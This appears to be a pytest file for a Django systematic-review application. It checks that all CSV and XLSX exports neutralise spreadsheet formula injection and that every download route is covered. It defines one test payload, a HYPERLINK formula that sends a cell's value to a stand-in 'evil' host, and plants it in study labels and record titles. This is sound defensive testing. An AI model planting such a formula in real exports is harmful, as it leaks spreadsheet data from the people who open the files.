"""Every CSV and XLSX the app hands out goes through reviewapp.tabular: a review whose study label
and record title are spreadsheet formulas is exported every way there is, and no cell of any file
starts a formula. A new export route fails the last test until it is scanned here too."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from analysis.sof.exports import robvis_files
from extraction.appraisal import demo as appraisal_demo
from extraction.demo import demo_extraction_load
from reviewapp import services as review_services
from reviewapp.demo import DEMO_OUTCOMES
from screening.models import Study
from tests.screening.helpers import import_bytes, make_search, record, ris

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")'
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
# (url name, kwargs) of every tabular download; robvis files are added per tool.
EXPORTS = [
    ("record_export_csv", {}), ("prisma_csv", {}), ("prisma2020_csv", {}), ("prisma_checklist_csv", {}),
    ("search_appendix_csv", {}),
    ("audit_export", {}), ("appraisal_export", {}),
    *[("extraction_export", {"shape": shape, "fmt": fmt}) for shape in ("wide", "long") for fmt in ("csv", "xlsx")],
    ("sof_download", {"fmt": "csv"}), ("sof_download", {"fmt": "xlsx"}), ("revman_download", {}),
    ("extraction_characteristics_download", {"fmt": "csv"}), ("extraction_characteristics_download", {"fmt": "xlsx"}),
]
# Downloads that are not tables for a spreadsheet, and why.
NOT_TABLES = {
    "record_export_ris": "RIS for reference managers",
    "r_download": "R scripts with their own input data (data.csv is read by read.csv, not a spreadsheet)",
    "review_archive_download": "the review archive (ZIP) for re-import",
    "review_version_download": "a published version's review archive (ZIP), as review_archive_download",
    "search_appendix_md": "Markdown",
    "analysis_run_zip": "one run's R reproduction, as r_download",
    "analysis_run_plot": "a figure (SVG or PNG)",
    "appraisal_figure": "a figure (SVG or PNG)",
    "report_docx": "the report as a Word document (python-docx writes every value as text)",
}


@pytest.fixture
def formula_review(review, people):
    lead = people["lead"]
    for name, direction, note in DEMO_OUTCOMES:
        review_services.outcome_create(actor=lead, review=review, name=name, direction=direction, note=note)
    for n in range(22):
        Study.objects.create(review=review, label=EVIL if n == 0 else f"Synthetic {n:02d}")
    demo_extraction_load(review=review, lead=lead)
    appraisal_demo.demo_appraisal_load(review=review, lead=lead)
    import_bytes(make_search(review, lead, query=EVIL), lead, ris(record(1, title=EVIL)), "scopus.ris")
    return review


def _cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response["Content-Type"]
    if "zip" in kind:
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            return [c for name in archive.namelist() if name.endswith(".csv")
                    for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))) for c in row]
    if "spreadsheetml" in kind:
        book = openpyxl.load_workbook(io.BytesIO(body))
        return [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _runs_as_formula(cell) -> bool:
    return (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            and not NUMBER.fullmatch(cell))


def test_no_export_carries_a_live_formula(client_for, formula_review, people):
    client = client_for(people["lead"])
    exports = EXPORTS + [("robvis_download", {"name": name}) for name in robvis_files(review=formula_review)]
    carrying_the_label = []
    for name, kwargs in exports:
        response = client.get(reverse(name, kwargs={"review_id": formula_review.pk, **kwargs}))
        assert response.status_code == 200, (name, kwargs)
        cells = _cells(response)
        assert cells, (name, kwargs)
        assert not [c for c in cells if _runs_as_formula(c)], (name, kwargs)
        if any(isinstance(c, str) and c.startswith("'=HYPERLINK") for c in cells):
            carrying_the_label.append(name)
    # The label did reach the exports that list studies or records (so the scan saw it, neutralised).
    assert {"appraisal_export", "extraction_export", "record_export_csv", "robvis_download",
            "search_appendix_csv", "extraction_characteristics_download"} <= set(carrying_the_label)


def _named_routes(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _named_routes(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield pattern.name, prefix + str(pattern.pattern)


def test_every_download_route_is_scanned_or_named_as_no_table():
    downloads = {name for name, route in _named_routes(get_resolver().url_patterns)
                 if not route.startswith("api/") and re.search(r"\.(csv|xlsx|zip|ris|md)$|<str:fmt>|exports/", route)}
    scanned = {name for name, _ in EXPORTS} | {"robvis_download"}
    assert downloads - scanned - set(NOT_TABLES) == set()


def test_no_module_writes_csv_or_xlsx_but_the_shared_writer():
    root = Path(__file__).resolve().parents[2]
    allowed = {"reviewapp/tabular.py", "analysis/reproduce.py"}  # reproduce: R's input, see NOT_TABLES
    writers = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(")
    offenders = [str(path.relative_to(root)) for app in ("reviewapp", "screening", "extraction", "analysis")
                 for path in (root / app).rglob("*.py")
                 if writers.search(path.read_text()) and str(path.relative_to(root)) not in allowed]
    assert offenders == []
